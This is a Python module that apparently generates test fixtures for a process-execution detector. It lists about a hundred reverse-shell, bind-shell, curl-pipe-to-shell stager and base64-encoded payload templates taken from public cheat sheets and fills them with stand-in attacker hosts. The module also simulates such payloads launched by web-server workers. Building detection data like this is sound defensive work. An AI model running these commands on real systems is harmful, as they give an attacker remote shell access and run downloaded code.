"""Reverse and bind shells from the public payload collections, labelled with family and source.

Written from the public lists (each payload names its page), parameterised by target host, port and
shell so that each variant is a real command line an attacker would run:

- GTFOBins: https://gtfobins.github.io/ (the "Reverse shell" / "Bind shell" sections of bash, nc, ncat,
  socat, perl, php, ruby, lua, node, awk, gawk, jrunscript, tclsh, pwsh, rustcat, busybox pages)
- revshells.com (the reverse-shell generator's list: "Bash -i", "Bash 196", "Bash read line", "Bash 5",
  "Bash udp", "nc mkfifo", "nc -e", "ncat -e", "rcat", "Python3 shortest", "Perl", "PHP exec", "Ruby",
  "Lua", "node.js", "Groovy", "Golang", "Awk", "PowerShell")
- PayloadsAllTheThings, "Reverse Shell Cheatsheet" and "Bind Shell Cheatsheet"
  (Methodology and Resources/Reverse Shell Cheatsheet.md, Bind Shell Cheatsheet.md)
- pentestmonkey, "Reverse Shell Cheat Sheet"
- HackTricks, "Shells - Linux" (generic-hacking/reverse-shells/linux)

`payloads()` returns every payload as a `Payload`; `execs()` the process start each one makes, as
tests/format_samples.py `Exec`s (under a web server's worker for the `webshell` family).
"""

from __future__ import annotations

import itertools
from typing import NamedTuple

__all__ = ["Payload", "FAMILIES", "payloads", "execs"]

GTFO = "GTFOBins"
REVSHELLS = "revshells.com"
PATT = "PayloadsAllTheThings Reverse Shell Cheatsheet"
PATT_BIND = "PayloadsAllTheThings Bind Shell Cheatsheet"
PENTESTMONKEY = "pentestmonkey Reverse Shell Cheat Sheet"
HACKTRICKS = "HackTricks Shells - Linux"

TARGETS = [("10.10.14.7", "4444"), ("203.0.113.9", "443"), ("attacker.example.net", "9001")]
SHELLS = ["/bin/sh", "/bin/bash"]


class Payload(NamedTuple):
    family: str
    source: str
    args: tuple[str, ...]  # argv of the process start: `sh -c SCRIPT` for a pipeline
    parent: str = "/bin/bash"  # the parent's executable


def _sh(script: str) -> tuple[str, ...]:
    return ("sh", "-c", script)


# family -> [(source, template)]; a template is a function of (host, port, shell) to argv.
T = dict[str, list[tuple[str, object]]]

BASH_TCP = [
    (PATT, "bash -i >& /dev/tcp/{h}/{p} 0>&1"),
    (REVSHELLS, "{s} -i >& /dev/tcp/{h}/{p} 0>&1"),
    (PENTESTMONKEY, "bash -i >& /dev/tcp/{h}/{p} 0>&1"),
    (REVSHELLS, "0<&196;exec 196<>/dev/tcp/{h}/{p}; {s} <&196 >&196 2>&196"),
    (REVSHELLS, "exec 5<>/dev/tcp/{h}/{p};cat <&5 | while read line; do $line 2>&5 >&5; done"),
    (REVSHELLS, "{s} -i 5<> /dev/tcp/{h}/{p} 0<&5 1>&5 2>&5"),
    (PATT, "/bin/bash -l > /dev/tcp/{h}/{p} 0<&1 2>&1"),
    (HACKTRICKS, "bash -c 'bash -i >& /dev/tcp/{h}/{p} 0>&1'"),
    (HACKTRICKS, "sh -i >& /dev/tcp/{h}/{p} 0>&1"),
    (GTFO, "bash -c 'exec bash -i &>/dev/tcp/{h}/{p} <&1'"),
    (PATT, "exec 3<>/dev/tcp/{h}/{p}; {s} <&3 >&3 2>&3"),
]
BASH_UDP = [
    (PATT, "sh -i >& /dev/udp/{h}/{p} 0>&1"),
    (REVSHELLS, "{s} -i >& /dev/udp/{h}/{p} 0>&1"),
    (HACKTRICKS, "bash -i > /dev/udp/{h}/{p} 0<&1 2>&1"),
]
OTHER_SH = [
    (REVSHELLS, "zsh -c 'zmodload zsh/net/tcp && ztcp {h} {p} && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'"),
    (PATT, "ksh -i >& /dev/tcp/{h}/{p} 0>&1"),
    (HACKTRICKS, "zsh -i >& /dev/tcp/{h}/{p} 0>&1"),
    (PATT, "dash -i > /dev/tcp/{h}/{p} 0<&1 2>&1"),
]
NETCAT = [
    (PATT, "nc -e {s} {h} {p}"),
    (REVSHELLS, "nc {h} {p} -e {s}"),
    (REVSHELLS, "nc -c {s} {h} {p}"),
    (REVSHELLS, "ncat {h} {p} -e {s}"),
    (GTFO, "ncat --exec {s} {h} {p}"),
    (REVSHELLS, "ncat -u {h} {p} -e {s}"),
    (PATT, "netcat -e {s} {h} {p}"),
    (PATT, "nc.traditional -e {s} {h} {p}"),
    (REVSHELLS, "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|{s} -i 2>&1|nc {h} {p} >/tmp/f"),
    (PATT, "rm -f /tmp/p; mknod /tmp/p p && nc {h} {p} 0</tmp/p | {s} 1>/tmp/p"),
    (REVSHELLS, "busybox nc {h} {p} -e {s}"),
    (HACKTRICKS, "rm -f /tmp/g; mkfifo /tmp/g; nc {h} {p} < /tmp/g | {s} > /tmp/g 2>&1"),
    (PENTESTMONKEY, "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {h} {p} >/tmp/f"),
]
SOCAT = [
    (PATT, "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{h}:{p}"),
    (GTFO, "socat tcp-connect:{h}:{p} exec:{s}"),
    (REVSHELLS, "socat TCP:{h}:{p} EXEC:{s}"),
    (REVSHELLS, "socat TCP:{h}:{p} EXEC:'{s}',pty,stderr,setsid,sigint,sane"),
    (PATT, "socat tcp:{h}:{p} system:{s}"),
    (HACKTRICKS, "socat udp-connect:{h}:{p} exec:{s},pty,stderr"),
]
TLS = [
    (GTFO, "mkfifo /tmp/s; {s} -i < /tmp/s 2>&1 | openssl s_client -quiet -connect {h}:{p} > /tmp/s; rm /tmp/s"),
    (PATT, "ncat --ssl -e {s} {h} {p}"),
    (PATT, "socat OPENSSL:{h}:{p},verify=0 EXEC:{s}"),
    (PATT, "telnet {h} {p} | {s} | telnet {h} 4445"),
    (GTFO, "TF=$(mktemp -u); mkfifo $TF && telnet {h} {p} 0<$TF | {s} 1>$TF"),
]
PYTHON = [
    (PATT, "python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
           "s.connect((\"{h}\",{p}));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);"
           "import pty; pty.spawn(\"{s}\")'"),
    (REVSHELLS, "python3 -c 'import os,pty,socket;s=socket.socket();s.connect((\"{h}\",{p}));"
                "[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"{s}\")'"),
    (PENTESTMONKEY, "python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
                    "s.connect((\"{h}\",{p}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);"
                    "p=subprocess.call([\"{s}\",\"-i\"]);'"),
    (REVSHELLS, "export RHOST=\"{h}\";export RPORT={p};python3 -c 'import sys,socket,os,pty;s=socket.socket();"
                "s.connect((os.getenv(\"RHOST\"),int(os.getenv(\"RPORT\"))));[os.dup2(s.fileno(),fd) for fd in "
                "(0,1,2)];pty.spawn(\"{s}\")'"),
    (HACKTRICKS, "python3 -c 'import socket,subprocess;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
                 "s.connect((\"{h}\",{p}));subprocess.call([\"{s}\",\"-i\"],stdin=s.fileno(),stdout=s.fileno(),"
                 "stderr=s.fileno())'"),
]
PERL = [
    (PATT, "perl -e 'use Socket;$i=\"{h}\";$p={p};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
           "if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,\">&S\");open(STDOUT,\">&S\");"
           "open(STDERR,\">&S\");exec(\"{s} -i\");}};'"),
    (PATT, "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"{h}:{p}\");"
           "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'"),
    (REVSHELLS, "perl -MIO::Socket::INET -e '$c=IO::Socket::INET->new(PeerAddr=>\"{h}:{p}\");"
                "open(STDIN,\"<&\",$c);open(STDOUT,\">&\",$c);exec(\"{s}\")'"),
]
PHP = [
    (PATT, "php -r '$sock=fsockopen(\"{h}\",{p});exec(\"{s} -i <&3 >&3 2>&3\");'"),
    (REVSHELLS, "php -r '$sock=fsockopen(\"{h}\",{p});shell_exec(\"{s} <&3 >&3 2>&3\");'"),
    (REVSHELLS, "php -r '$sock=fsockopen(\"{h}\",{p});system(\"{s} <&3 >&3 2>&3\");'"),
    (REVSHELLS, "php -r '$sock=fsockopen(\"{h}\",{p});passthru(\"{s} <&3 >&3 2>&3\");'"),
    (REVSHELLS, "php -r '$sock=fsockopen(\"{h}\",{p});popen(\"{s} <&3 >&3 2>&3\", \"r\");'"),
    (REVSHELLS, "php -r '$sock=fsockopen(\"{h}\",{p});$proc=proc_open(\"{s}\", array(0=>$sock, 1=>$sock, "
                "2=>$sock),$pipes);'"),
]
RUBY = [
    (PATT, "ruby -rsocket -e'f=TCPSocket.open(\"{h}\",{p}).to_i;exec sprintf(\"{s} -i <&%d >&%d 2>&%d\",f,f,f)'"),
    (GTFO, "ruby -rsocket -e 'exit if fork;c=TCPSocket.new(\"{h}\",\"{p}\");loop{{c.gets.chomp!;"
           "(exit! if $_==\"exit\");IO.popen($_,\"r\"){{|io|c.print io.read}}}}'"),
    (REVSHELLS, "ruby -rsocket -e'spawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"{h}\",{p}))'"),
]
LUA = [
    (PATT, "lua -e \"require('socket');require('os');t=socket.tcp();t:connect('{h}','{p}');"
           "os.execute('{s} -i <&3 >&3 2>&3');\""),
    (GTFO, "lua5.1 -e 'local host, port = \"{h}\", {p} local socket = require(\"socket\") local tcp = "
           "socket.tcp() local io = require(\"io\") tcp:connect(host, port); while true do local cmd, status, "
           "partial = tcp:receive() local f = io.popen(cmd, \"r\") local s = f:read(\"*a\") f:close() "
           "tcp:send(s) if status == \"closed\" then break end end tcp:close()'"),
]
NODE = [
    (REVSHELLS, "node -e 'sh = require(\"child_process\").spawn(\"{s}\");client = new require(\"net\").Socket();"
                "client.connect({p}, \"{h}\", function(){{client.pipe(sh.stdin);sh.stdout.pipe(client);"
                "sh.stderr.pipe(client);}});'"),
    (PATT, "node -e 'require(\"child_process\").exec(\"nc -e {s} {h} {p}\")'"),
    (GTFO, "node -e 'sh = require(\"child_process\").spawn(\"/bin/sh\");require(\"net\").connect({p}, \"{h}\", "
           "function () {{this.pipe(sh.stdin);sh.stdout.pipe(this);sh.stderr.pipe(this);}})'"),
]
AWK = [
    (PATT, "awk 'BEGIN {{s = \"/inet/tcp/0/{h}/{p}\"; while(42) {{ do{{ printf \"shell>\" |& s; s |& getline c; "
           "if(c){{ while ((c |& getline) > 0) print $0 |& s; close(c); }} }} while(c != \"exit\") close(s); }}}}' "
           "/dev/null"),
    (GTFO, "gawk 'BEGIN {{s = \"/inet/tcp/0/{h}/{p}\"; while (1) {{printf \"> \" |& s; if ((s |& getline c) <= 0) "
           "break; while (c && (c |& getline) > 0) print $0 |& s; close(c)}}}}'"),
]
JAVA = [
    (GTFO, "jrunscript -e 'var host=\"{h}\"; var port={p}; var p=new java.lang.ProcessBuilder(\"{s}\", \"-i\")"
           ".redirectErrorStream(true).start();var s=new java.net.Socket(host,port);'"),
    (REVSHELLS, "groovy -e 'String host=\"{h}\";int port={p};String cmd=\"{s}\";Process p=new ProcessBuilder(cmd)"
                ".redirectErrorStream(true).start();Socket s=new Socket(host,port);'"),
    (PATT, "jjs -e 'var p=new java.lang.ProcessBuilder(\"{s}\").redirectErrorStream(true).start();"
           "var s=new java.net.Socket(\"{h}\",{p});'"),
]
TCL = [
    (GTFO, "echo 'set s [socket {h} {p}];while 1 {{ puts -nonewline $s \"> \";flush $s;gets $s c;"
           "set e \"exec $c\";if {{![catch {{set r [eval $e]}} err]}} {{ puts $s $r }}; flush $s; }}; close $s;' "
           "| tclsh"),
]
PWSH = [
    (REVSHELLS, "pwsh -c '$client = New-Object System.Net.Sockets.TCPClient(\"{h}\",{p});$stream = "
                "$client.GetStream();[byte[]]$bytes = 0..65535|%{{0}};while(($i = $stream.Read($bytes, 0, "
                "$bytes.Length)) -ne 0){{;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,"
                "0, $i);$sendback = (iex $data 2>&1 | Out-String )}}'"),
    (PATT, "pwsh -nop -c \"$c=New-Object Net.Sockets.TCPClient('{h}',{p});$s=$c.GetStream()\""),
]
GOLANG = [
    (REVSHELLS, "echo 'package main;import\"os/exec\";import\"net\";func main(){{c,_:=net.Dial(\"tcp\",\"{h}:{p}\");"
                "cmd:=exec.Command(\"{s}\");cmd.Stdin=c;cmd.Stdout=c;cmd.Stderr=c;cmd.Run()}}' > /tmp/t.go && "
                "go run /tmp/t.go && rm /tmp/t.go"),
]
RCAT = [
    (REVSHELLS, "rcat connect -s {s} {h} {p}"),
    (GTFO, "rustcat connect -s {s} {h} {p}"),
]
STAGER = [
    (HACKTRICKS, "curl -s http://{h}:{p}/x.sh | bash"),
    (HACKTRICKS, "curl -fsSL http://{h}/shell.sh | sh"),
    (PATT, "wget -qO- http://{h}:{p}/s | sh"),
    (HACKTRICKS, "wget -O - http://{h}/r.sh | bash"),
    (HACKTRICKS, "curl http://{h}:{p}/rev | {s}"),
    (HACKTRICKS, "cd /tmp && wget http://{h}:{p}/x -O x && chmod +x x && ./x"),
]
ENCODED = [
    (HACKTRICKS, "echo {b64} | base64 -d | bash"),
    (HACKTRICKS, "echo {b64} | base64 --decode | sh"),
    (HACKTRICKS, "bash -c '{{echo,{b64}}}|{{base64,-d}}|{{bash,-i}}'"),
    (HACKTRICKS, "echo {hex} | xxd -r -p | sh"),
    (PATT, "printf '{bashhex}' | bash"),
]
BIND = [
    (PATT_BIND, "nc -nlvp {p} -e {s}"),
    (PATT_BIND, "nc -l -p {p} -e {s}"),
    (PATT_BIND, "ncat -lvp {p} -e {s}"),
    (PATT_BIND, "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | {s} -i 2>&1 | nc -l 0.0.0.0 {p} > /tmp/f"),
    (PATT_BIND, "socat TCP-LISTEN:{p},reuseaddr,fork EXEC:{s},pty,stderr,setsid,sigint,sane"),
    (GTFO, "socat tcp-listen:{p} exec:{s}"),
    (PATT_BIND, "python3 -c 'exec(\"\"\"import socket as s,subprocess as sp;s1=s.socket(s.AF_INET,s.SOCK_STREAM);"
                "s1.setsockopt(s.SOL_SOCKET,s.SO_REUSEADDR, 1);s1.bind((\"0.0.0.0\",{p}));s1.listen(1);"
                "c,a=s1.accept();\\nwhile True: d=c.recv(1024).decode();p=sp.Popen(d,shell=True,stdout=sp.PIPE,"
                "stderr=sp.PIPE,stdin=sp.PIPE);c.sendall(p.stdout.read()+p.stderr.read())\"\"\")'"),
    (PATT_BIND, "perl -e 'use Socket;$p={p};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
                "bind(S,sockaddr_in($p, INADDR_ANY));listen(S,SOMAXCONN);for(;$p=accept(C,S);close C)"
                "{{open(STDIN,\">&C\");open(STDOUT,\">&C\");open(STDERR,\">&C\");exec(\"{s} -i\");}};'"),
    (PATT_BIND, "php -r '$s=socket_create(AF_INET,SOCK_STREAM,SOL_TCP);socket_bind($s,\"0.0.0.0\",{p});"
                "socket_listen($s,1);$cl=socket_accept($s);while(1){{if(!socket_write($cl,\"$ \",2))exit;"
                "$in=socket_read($cl,100);$cmd=popen(\"$in\",\"r\");}}'"),
    (GTFO, "busybox nc -lp {p} -e {s}"),
]
# The web-shell family: the same payloads, run by a web or application server's worker via `sh -c`.
WEB_PARENTS = ["/usr/sbin/php-fpm8.2", "/usr/sbin/apache2", "/usr/sbin/nginx", "/usr/bin/uwsgi",
               "/usr/local/bin/gunicorn", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "/usr/bin/node"]
WEBSHELL = [BASH_TCP[0], NETCAT[8], PYTHON[1], PERL[0], PHP[0], NETCAT[0], SOCAT[1]]

FAMILIES: dict[str, list[tuple[str, str]]] = {
    "bash-tcp": BASH_TCP, "bash-udp": BASH_UDP, "other-sh": OTHER_SH, "netcat": NETCAT, "socat": SOCAT,
    "tls-telnet": TLS, "python": PYTHON, "perl": PERL, "php": PHP, "ruby": RUBY, "lua": LUA, "node": NODE,
    "awk": AWK, "java": JAVA, "tcl": TCL, "pwsh": PWSH, "golang": GOLANG, "rcat": RCAT, "stager": STAGER,
    "encoded": ENCODED, "bind": BIND,
}


def _fill(template: str, h: str, p: str, s: str) -> str:
    import base64

    inner = f"bash -i >& /dev/tcp/{h}/{p} 0>&1"
    return template.format(h=h, p=p, s=s, b64=base64.b64encode(inner.encode()).decode(),
                           hex=inner.encode().hex(), bashhex="".join(f"\\x{c:02x}" for c in inner.encode()))


def _argv(line: str) -> tuple[str, ...]:
    """A one-process payload as its own argv when it is one command; else the `sh -c` that runs it."""
    import shlex

    if any(c in line for c in "|;&<>$") and not line.startswith(("python", "perl", "php", "ruby", "lua", "node",
                                                                   "awk", "gawk", "jrunscript", "groovy", "jjs",
                                                                   "pwsh", "zsh -c", "bash -c")):
        return _sh(line)
    try:
        return tuple(shlex.split(line))
    except ValueError:
        return _sh(line)


def payloads() -> list[Payload]:
    """Every payload: each family's templates for each target and shell, deduplicated, in a fixed order."""
    out: list[Payload] = []
    seen: set[tuple[str, ...]] = set()
    for family, templates in FAMILIES.items():
        for (source, tpl), (h, p), s in itertools.product(templates, TARGETS, SHELLS):
            args = _argv(_fill(tpl, h, p, s))
            if args not in seen:
                seen.add(args)
                out.append(Payload(family, source, args))
    for (source, tpl), parent, (h, p) in itertools.product(WEBSHELL, WEB_PARENTS, TARGETS[:1]):
        out.append(Payload("webshell", f"{source} (run by a web-server worker)", _sh(_fill(tpl, h, p, "/bin/sh")),
                           parent))
    return out


def execs() -> list[tuple[Payload, object]]:
    """Each payload with its process start as a format_samples.Exec (its parent an Exec too)."""
    from format_samples import Exec

    out = []
    for i, pl in enumerate(payloads()):
        name = pl.parent.rsplit("/", 1)[-1]
        parent = Exec((name,), pl.parent, pid=3000 + i, ppid=1, serial=10 * i, time=1777800000.0 + i,
                      uid=33 if pl.family == "webshell" else 1000,
                      user="www-data" if pl.family == "webshell" else "alice")
        exe = "/usr/bin/dash" if pl.args[0] == "sh" else f"/usr/bin/{pl.args[0]}"
        out.append((pl, Exec(pl.args, exe, pid=5000 + i, ppid=parent.pid, serial=10 * i + 1,
                             time=1777800000.5 + i, uid=parent.uid, user=parent.user, parent=parent)))
    return out
